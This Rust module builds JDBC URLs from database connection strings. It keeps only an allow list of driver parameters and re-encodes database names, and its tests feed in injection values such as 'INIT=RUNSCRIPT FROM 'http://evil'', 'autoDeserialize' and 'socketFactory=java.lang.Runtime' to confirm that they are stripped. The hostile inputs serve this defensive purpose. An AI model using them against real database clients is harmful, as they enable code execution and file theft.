//! URLs for JDBC: all hosts, without user and password.
//!
//! A JDBC URL selects the driver and configures it, and drivers have parameters that run code: `socketFactory` and
//! `sslfactory` (PostgreSQL) load a class, `autoDeserialize` (MySQL) reads Java objects from the server,
//! `allowLoadLocalInfile` sends it files, and H2's `INIT=RUNSCRIPT` runs a script. So only listed drivers and
//! parameters are allowed.

use interfaces::uri::Uri;

use super::parameters::{Refused, allowed, hosts};
use crate::url;

/// Driver: schemes of connection strings, name in the JDBC URL, and allowed parameters.
struct Driver {
    schemes: &'static [&'static str],
    name: &'static str,
    parameters: &'static [&'static str],
}

const DRIVERS: [Driver; 3] = [
    Driver {
        // `postgres` is libpq's short form, unknown to the JDBC driver.
        schemes: &["postgresql", "postgres"],
        name: "postgresql",
        parameters: &[
            "ApplicationName",
            "channelBinding",
            "connectTimeout",
            "currentSchema",
            "gssEncMode",
            "loadBalanceHosts",
            "loginTimeout",
            "socketTimeout",
            "ssl",
            "sslmode",
            "targetServerType",
            "tcpKeepAlive",
        ],
    },
    Driver {
        schemes: &["mysql"],
        name: "mysql",
        parameters: &[
            "characterEncoding",
            "connectTimeout",
            "connectionCollation",
            "connectionTimeZone",
            "requireSSL",
            "serverTimezone",
            "socketTimeout",
            "sslMode",
            "tcpKeepAlive",
            "useSSL",
            "useUnicode",
        ],
    },
    Driver {
        schemes: &["mariadb"],
        name: "mariadb",
        parameters: &["connectTimeout", "socketTimeout", "sslMode", "tcpKeepAlive", "timezone", "useSsl"],
    },
];

/// Makes the URL `jdbc:…` of a connection string.
///
/// # Errors
///
/// The scheme belongs to no listed driver, or a host is invalid.
pub(super) fn url(uri: &Uri) -> Result<String, Refused> {
    let driver = DRIVERS.iter().find(|driver| driver.schemes.contains(&uri.scheme.as_str()));
    let driver = driver.ok_or(Refused("its scheme is none of postgresql, mysql and mariadb"))?;
    // Encode again, so that the name can't add parameters.
    let path = if uri.path.is_empty() { String::new() } else { format!("/{}", url::encode_again(uri.name())) };
    Ok(format!("jdbc:{}://{}{path}{}", driver.name, hosts(uri)?, allowed(uri, driver.parameters)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Result<String, Refused> {
        url(&Uri::first(text))
    }

    #[test]
    fn a_jdbc_url_has_every_host_and_the_allowed_parameters() {
        let table = [
            ("postgresql://u:p@H1:5432/d", "jdbc:postgresql://h1:5432/d"),
            ("postgres://h1/d?sslmode=require", "jdbc:postgresql://h1/d?sslmode=require"),
            (
                "postgresql://h1:1,h2:2/d?targetServerType=primary",
                "jdbc:postgresql://h1:1,h2:2/d?targetServerType=primary",
            ),
            ("mysql://h/a%20b?sslMode=REQUIRED&charset=utf8", "jdbc:mysql://h/a%20b?sslMode=REQUIRED"),
            ("MariaDB://h:3306/d", "jdbc:mariadb://h:3306/d"),
            ("mysql://h", "jdbc:mysql://h"),
        ];
        for (uri, expected) in table {
            assert_eq!(of(uri).as_deref(), Ok(expected));
        }
    }

    #[test]
    fn a_scheme_of_another_driver_is_refused() {
        let schemes = ["h2:mem://h/d", "h2://h/d", "mysql+srv://h/d", "jdbc:h2://h/d", "http://h"];
        for uri in schemes.into_iter().chain(["", "h:5432/d", "://h/d", "sqlserver://h;x=y", "derby:memory:x"]) {
            assert_eq!(of(uri), Err(Refused("its scheme is none of postgresql, mysql and mariadb")), "{uri}");
        }
    }

    #[test]
    fn a_host_with_parameters_is_refused() {
        let hosts = ["mysql://address=(host=h)(port=1)(allowLoadLocalInfile=true)/d", "mysql:loadbalance://h/d"];
        for uri in
            hosts.into_iter().chain(["postgresql:///d", "postgresql:d", "mysql://(host=h,user=x)/d", "mysql://h\\x/d"])
        {
            assert_eq!(of(uri), Err(Refused("it has a host that is not host:port")), "{uri}");
        }
    }

    #[test]
    fn a_parameter_that_runs_code_or_reads_files_is_left_out() {
        let postgresql = ["socketFactory", "socketFactoryArg", "sslfactory", "sslfactoryarg", "sslhostnameverifier"];
        let postgresql = postgresql.into_iter().chain(["sslpasswordcallback", "authenticationPluginClassName"]);
        let postgresql =
            postgresql.chain(["loggerFile", "loggerLevel", "jaasApplicationName", "service", "sslkey", "user"]);
        let mysql = ["autoDeserialize", "allowLoadLocalInfile", "allowUrlInLocalInfile", "allowLoadLocalInfileInPath"];
        let mysql = mysql.into_iter().chain(["queryInterceptors", "statementInterceptors", "detectCustomCollations"]);
        let mysql = mysql.chain(["propertiesTransform", "socketFactory", "clientInfoProvider", "allowMultiQueries"]);
        let mariadb =
            ["socketFactory", "tlsSocketType", "credentialType", "serverSslCert", "allowLocalInfile", "initSql"];
        let tried = postgresql.map(|name| ("postgresql", name)).chain(mysql.map(|name| ("mysql", name)));
        for (scheme, name) in tried.chain(mariadb.map(|name| ("mariadb", name))) {
            let clean = format!("jdbc:{scheme}://h/d");
            assert_eq!(of(&format!("{scheme}://h/d?{name}=java.lang.Runtime")), Ok(clean), "{name}");
        }
        let script = "postgresql://h/d?INIT=RUNSCRIPT FROM 'http://evil'&sslmode=require;INIT=x";
        assert_eq!(of(script).as_deref(), Ok("jdbc:postgresql://h/d"));
    }

    #[test]
    fn a_database_name_adds_no_parameters() {
        let table = [
            ("mysql://h/d;INIT=x", "jdbc:mysql://h/d%3BINIT%3Dx"),
            ("mysql://h/d%3FautoDeserialize=true", "jdbc:mysql://h/d%3FautoDeserialize%3Dtrue"),
            ("postgresql://h/${secret}", "jdbc:postgresql://h/%24%7Bsecret%7D"),
            ("postgresql://h/a/../b%26c", "jdbc:postgresql://h/a%2F..%2Fb%26c"),
        ];
        for (uri, expected) in table {
            assert_eq!(of(uri).as_deref(), Ok(expected));
        }
    }
}
